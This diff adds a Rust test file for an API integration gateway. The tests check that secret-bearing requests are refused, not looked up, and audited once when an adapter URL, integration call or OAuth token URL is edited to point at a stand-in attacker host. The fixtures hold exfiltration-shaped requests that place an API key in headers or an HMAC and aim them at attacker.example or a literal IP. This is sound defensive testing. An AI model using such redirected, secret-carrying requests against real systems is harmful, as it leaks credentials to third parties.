@@ -1,0 +1,160 @@
+//! A URL that was changed makes no secret usable elsewhere: the other name is not even looked up, and one audit record is left.
+
+use std::sync::{Arc, Mutex};
+
+use ::tracing::{
+    Event, Subscriber,
+    field::{Field, Visit},
+    subscriber::DefaultGuard,
+};
+use proto::integrations::v1::{ApiKey, Endpoint, Integration, api_key::Place, auth::Kind};
+use serde_json::json;
+use tracing_subscriber::{
+    Layer,
+    layer::{Context, SubscriberExt},
+    registry,
+};
+
+use super::{
+    counterpart::{Counterpart, HOST},
+    tokens::client_credentials,
+    world::{World, get, metadata, open, refused},
+};
+
+const VALUE: &str = "canary-0123456789abcdef";
+
+/// Keeps the audit records of this thread, which is the only one of a test.
+#[derive(Clone, Default)]
+struct Audit(Arc<Mutex<Vec<String>>>);
+
+impl Audit {
+    fn start() -> (Self, DefaultGuard) {
+        let audit = Self::default();
+        let guard = ::tracing::subscriber::set_default(registry().with(audit.clone()));
+        (audit, guard)
+    }
+
+    /// The one that there is since the last time.
+    #[track_caller]
+    fn one(&self) -> String {
+        let taken = std::mem::take(&mut *self.0.lock().unwrap());
+        let [record] = &taken[..] else { panic!("not one record: {taken:?}") };
+        record.clone()
+    }
+}
+
+impl<S: Subscriber> Layer<S> for Audit {
+    fn on_event(&self, event: &Event<'_>, _: Context<'_, S>) {
+        if event.metadata().target() == "outgate::audit" {
+            let mut fields = Fields::default();
+            event.record(&mut fields);
+            self.0.lock().unwrap().push(fields.0.join(" "));
+        }
+    }
+}
+
+#[derive(Default)]
+struct Fields(Vec<String>);
+
+impl Visit for Fields {
+    fn record_debug(&mut self, field: &Field, value: &dyn std::fmt::Debug) {
+        self.0.push(format!("{}={value:?}", field.name()));
+    }
+}
+
+fn record(by: &str, secret: &str, destination: &str, purpose: &str) -> String {
+    format!(
+        "message=the release of a secret was refused by={by:?} secret=\"tenants/acme/secrets/{secret}\" \
+         destination={destination:?} purpose={purpose:?} reason=\"SECRET_OUT_OF_SCOPE\""
+    )
+}
+
+/// The attacker's own name, on a port that may leave.
+fn attacker(counterpart: &Counterpart) -> String {
+    format!("https://attacker.example:{}", counterpart.port())
+}
+
+fn key() -> Option<Kind> {
+    let place = Some(Place::Header("X-Api-Key".into()));
+    Some(Kind::ApiKey(ApiKey { place, value: "{{secret:key}}".into() }))
+}
+
+/// An integration that lists the attacker too.
+fn wide(counterpart: &Counterpart, auth: Option<Kind>) -> Integration {
+    let mut integration = open(counterpart, auth);
+    integration.endpoints.push(Endpoint { url: format!("{}/**", attacker(counterpart)), methods: vec![] });
+    integration
+}
+
+#[tokio::test]
+async fn an_adapter_whose_url_was_edited_is_refused_before_the_name_is_looked_up() {
+    let counterpart = Counterpart::quiet().await;
+    let world = World::new(&counterpart).await;
+    world.secret("key", VALUE, &counterpart.origin()).await;
+    world.create("CRM", wide(&counterpart, None)).await.unwrap();
+    world.create("KEYED", wide(&counterpart, key())).await.unwrap();
+    let (audit, _guard) = Audit::start();
+    let evil = attacker(&counterpart);
+    let literal = format!("https://127.0.0.1:{}", counterpart.port());
+    // With the secret in a header, within an HMAC, and injected by the integration; and through no integration at all.
+    for (adapter, integration, headers) in [
+        ("ADAPTER.HEADER", Some("CRM"), json!({ "X-Key": "{{secret:key}}" })),
+        ("ADAPTER.DIGEST", Some("CRM"), json!({ "X-Key": "${hmac:sha256,{{secret:key}},text}" })),
+        ("ADAPTER.INJECTED", Some("KEYED"), json!({})),
+        ("ADAPTER.ANYWHERE", None, json!({ "X-Key": "{{secret:key}}" })),
+    ] {
+        let text = |origin: &str| {
+            let url = format!("{origin}/v1?q=query-canary");
+            let request = json!({ "method": "GET", "url": url, "headers": headers });
+            let mut adapter = json!({ "requestMapping": request });
+            if let Some(integration) = integration {
+                adapter["integration"] = json!(integration);
+            }
+            adapter.to_string()
+        };
+        world.register(adapter, text(&counterpart.origin())).await;
+        world.run(adapter, "{}").await.unwrap();
+        let (asked, sent) = (world.names.asked(), counterpart.seen().len());
+        assert_eq!(asked.last().map(String::as_str), Some(HOST), "{adapter}");
+
+        let edited = if integration.is_none() { vec![&evil, &literal] } else { vec![&evil] };
+        for origin in edited {
+            world.register(adapter, text(origin)).await;
+            let status = refused(world.run(adapter, "{}").await, "SECRET_OUT_OF_SCOPE");
+            assert_eq!(metadata(&status, "secret"), "key", "{adapter}");
+            assert_eq!(audit.one(), record("integrations", "key", origin, "PURPOSE_CALL"), "{adapter}");
+        }
+        assert_eq!((world.names.asked(), counterpart.seen().len()), (asked, sent), "{adapter}");
+    }
+}
+
+#[tokio::test]
+async fn a_call_of_an_integration_to_another_origin_is_refused_before_the_name_is_looked_up() {
+    let counterpart = Counterpart::quiet().await;
+    let world = World::new(&counterpart).await;
+    world.secret("key", VALUE, &counterpart.origin()).await;
+    world.create("CRM", wide(&counterpart, key())).await.unwrap();
+    let (audit, _guard) = Audit::start();
+    let evil = attacker(&counterpart);
+    refused(world.execute(get(format!("{evil}/v1?q=query-canary"))).await, "SECRET_OUT_OF_SCOPE");
+    assert_eq!(audit.one(), record("integrations", "key", &evil, "PURPOSE_CALL"));
+    assert_eq!((world.names.asked(), counterpart.seen().len()), (vec![], 0));
+    world.execute(get(format!("{}/v1", counterpart.origin()))).await.unwrap();
+    assert_eq!(world.names.asked(), [HOST]);
+    assert!(audit.0.lock().unwrap().is_empty());
+}
+
+#[tokio::test]
+async fn a_token_url_that_was_edited_is_not_looked_up() {
+    let counterpart = Counterpart::quiet().await;
+    let world = World::with_real_tokens(&counterpart).await;
+    let evil = attacker(&counterpart);
+    world.secret("crm-client-secret", VALUE, &counterpart.origin()).await;
+    let Kind::ClientCredentials(mut grant) = client_credentials() else { unreachable!() };
+    grant.token_url = format!("{evil}/token?q=query-canary");
+    world.crm(&counterpart, Some(Kind::ClientCredentials(grant))).await;
+    let (audit, _guard) = Audit::start();
+    refused(world.execute(get(format!("{}/v1", counterpart.origin()))).await, "SECRET_OUT_OF_SCOPE");
+    assert_eq!(audit.one(), record("tokens", "crm-client-secret", &evil, "PURPOSE_TOKEN"));
+    assert_eq!((world.names.asked(), counterpart.seen().len()), (vec![HOST.to_owned()], 0));
+}
